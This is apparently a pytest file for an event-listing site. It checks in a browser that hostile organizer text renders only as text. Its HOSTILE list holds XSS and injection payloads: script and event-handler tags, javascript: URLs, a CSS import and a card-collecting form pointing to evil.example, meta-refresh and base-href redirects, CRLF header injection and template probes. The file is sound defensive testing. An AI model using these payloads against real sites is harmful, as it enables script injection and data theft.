"""Hostile text of an organizer stays text on every page, in a browser."""

import json
import re
from urllib.parse import urlencode

import pytest

from feeds.text.cleaning import clean_line, clean_text
from feeds.upstream.fields import MAX_LABEL, MAX_NAME, shorten
from feeds.upstream.markup import convert_html

PWN = "window.pwned=1"
STACK = "Z" + "\u0310\u0321\u0353\u035d" * 40 + "algo" + "\u0e49" * 60
"""Combining characters: browsers take all for one wide character, which is never broken."""

HOSTILE = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}><circle r=9>",
    f"<svg><script>{PWN}</script></svg>",
    f"javascript:{PWN}",
    f" JaVaScRiPt:{PWN}//https://club.example/",
    f"java\tscript:{PWN}",
    f"data:text/html,<script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<!--<script>{PWN}</script>",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    f'" onmouseover="{PWN}" autofocus onfocus="{PWN}" x="',
    f"' onmouseover='{PWN}' x='",
    f"`${{{PWN}}}` \\u003cscript\\u003e{PWN}",
    f"]]><script>{PWN}</script><![CDATA[",
    f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    f"</style><script>{PWN}</script><style>*{{display:none}}",
    "}*{background:url(https://evil.example/css)}@import 'https://evil.example/';",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe>",
    f"<iframe srcdoc='<script>top.{PWN}</script>'></iframe>",
    "<form action=https://evil.example/><input name=card><button>Pay</button></form>",
    f"<a href=javascript:{PWN}>win</a>",
    f"<details open ontoggle={PWN}><summary>x</summary>",
    f"<math><mi xlink:href=javascript:{PWN}>x",
    "</bdi></h1></main></body></html><plaintext>",
    "<textarea><xmp><noscript><template>",
    "first\r\nSet-Cookie: a=b\r\n\r\n<b>second</b>\u2028third\u0085fourth",
    "\u202egnihtemos siht si\u202e \u202dleft",
    "\u2067open isolate \u2066and another \u2068never closed",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060\u00ad\u180ejoined",
    "W" * 400,
    "跑" * 200 + "ﷺ" * 20 + "𒐫" * 20,
    "👩‍👩‍👧‍👦" * 60 + "🏴\U000e0067\U000e0062\U000e007f" * 9,
    STACK,
    "https://club.example/" + "very-long-" * 150 + "?a=<script>&b='\"",
    "//evil.example/\\evil.example/%0d%0a%3Cscript%3E\x00\x1b[31m\x7f",
]
TEXTS_PER_EVENT = 5
"""Each text is in all fields of its event."""

WIDTHS = (320, 768, 1280)

ELEMENTS = """
html head meta title link script style body a header main footer p span div h1 h2 h3 bdi small
section ul li strong code button img iframe form label input select option pre time details
summary fieldset legend dl dt dd em
"""
"""The elements of the templates."""

FIND = {
    "elements": "() => [...new Set([...document.querySelectorAll('*')].map(e => e.localName))]",
    "handlers": """() => [...document.querySelectorAll('*')].flatMap(each =>
        [...each.attributes].filter(a => /^on|^srcdoc$|^style$|^action$/.test(a.name)
            && !(a.name == 'action' && each.matches('form.find, #choice, #mine'))
            && !(a.name == 'srcdoc' && each.matches('iframe.live'))).map(a => a.name))""",
    "sources": "() => [...document.querySelectorAll('[src]')].map(each => each.src)",
    "links": "() => [...document.querySelectorAll('[href]')].map(each => each.href)",
    "counts": """() => ['script', 'style', 'img', 'iframe', 'form', 'title', 'body', 'meta']
        .map(tag => document.querySelectorAll(tag).length)""",
    "overflow": "() => document.documentElement.scrollWidth - innerWidth",
    "cut": """() => document.querySelector('main').scrollWidth
        - document.querySelector('main').clientWidth""",
    "json": "() => document.querySelector('script[type=\"application/ld+json\"]').text",
}
REPORT_VIOLATIONS = """addEventListener('securitypolicyviolation', event =>
    console.error(`${event.violatedDirective} ${event.blockedURI}`))"""


def normalize(text):
    """Return the text as pages show it: without control characters, white space collapsed."""
    return " ".join(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f]", "", text).split())


def publish_event(site, number, texts):
    """Publish an event with a run for each text; return the URL of its page."""
    whole = " ".join(texts)
    return site.publish(
        f"hostile-{number}",
        [
            {
                "distanceLabel": text,
                "distanceStandard": texts[n - 1],
                "eventStatus": texts[n - 2],
                "registrationOverride": texts[n - 3],
                "registrationUrl": text if n % 2 else f"https://club.example/{text}",
            }
            for n, text in enumerate(texts)
        ],
        name=whole,
        slug=whole,
        type=texts[0],
        address=dict(zip(("venue", "street", "city", "state", "country"), texts, strict=True)),
        description="\n".join(texts),
        websiteUrl=texts[number % TEXTS_PER_EVENT],
        registrationUrl=f"https://club.example/{texts[0]}",
    )


@pytest.fixture(scope="module")
def pages(site):
    """The URL and the texts of each event."""
    groups = [HOSTILE[n : n + TEXTS_PER_EVENT] for n in range(0, len(HOSTILE), TEXTS_PER_EVENT)]
    return [(publish_event(site, number, texts), texts) for number, texts in enumerate(groups)]


@pytest.fixture
def visitor(open_visitor):
    """A visitor whose ``problems`` hold violations of the content security policy, too."""
    return open_visitor(script=REPORT_VIOLATIONS)


def assert_harmless(visitor, site):
    """The texts have made no element, handler, link or request on the page, nor made it wider."""
    page = visitor.page
    assert page.evaluate("window.pwned") is None
    assert set(page.evaluate(FIND["elements"])) <= set(re.findall(r"\w+", ELEMENTS))
    assert page.evaluate(FIND["handlers"]) == []
    assert all(url.startswith(f"{site.url}/") for url in page.evaluate(FIND["sources"]))
    for url in page.evaluate(FIND["links"]):
        assert url.startswith(("https://", "webcal://127.0.0.1:", f"{site.url}/")), url
        assert not url.startswith("https://evil.example"), url
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        assert page.evaluate(FIND["overflow"]) <= 0, f"{page.url} at {width} px"
        if clean_line(STACK) not in str(page.locator("main").text_content()):
            assert page.evaluate(FIND["cut"]) <= 0, f"{page.url} at {width} px"
    assert [each for each in visitor.problems if "the server responded" not in each] == []
    assert [url for url in visitor.requests if not url.startswith(f"{site.url}/")] == []


@pytest.mark.parametrize("number", range(len(HOSTILE) // TEXTS_PER_EVENT))
def test_hostile_texts_are_text_on_the_pages_of_an_event(visitor, site, pages, number):
    (url, texts), page = pages[number], visitor.page
    name = shorten(clean_line(" ".join(texts)), MAX_NAME)
    description = normalize(clean_text(convert_html(clean_text("\n".join(texts)))))
    for path, counts, heading in (
        ("/embed", [1, 0, 0, 0, 0, 1, 1, 4], "h1"),
        ("/embed-kit", [1, 0, 0, 4, 1, 1, 1, 4], "h1 bdi"),
        ("", [2, 0, 1, 0, 1, 1, 1, 13], "h1"),
    ):
        page.goto(url + path)
        assert_harmless(visitor, site)
        assert page.evaluate(FIND["counts"]) == counts
        assert page.locator(heading).text_content() == name

    labels = page.locator(".runs strong bdi").all_text_contents()
    assert labels == [shorten(clean_line(text), MAX_LABEL) for text in texts]
    assert normalize(page.locator(".prose").text_content()) == description
    assert json.loads(page.evaluate(FIND["json"]))["name"] == name


def test_hostile_names_and_searches_are_text_on_the_home_page(visitor, site, pages):
    page = visitor.page
    for url, _ in pages:
        page.request.get(url)
    for _, texts in pages:
        text = " ".join(texts)
        page.goto(f"{site.url}/?{urlencode({'event': text})}")

        kept = re.sub("[\r\n]", "", text).replace("\0", "\ufffd")  # as every browser does
        assert page.get_by_label("Find a race by name").input_value() == kept.strip()
        assert_harmless(visitor, site)

    chosen = [("event", url.rpartition("/")[2]) for url, _ in pages]
    page.goto(f"{site.url}/?{urlencode(chosen)}")
    assert_harmless(visitor, site)
    names = page.locator(".events li > a").all_text_contents()
    assert {shorten(clean_line(" ".join(texts)), MAX_NAME) for _, texts in pages} <= set(names)
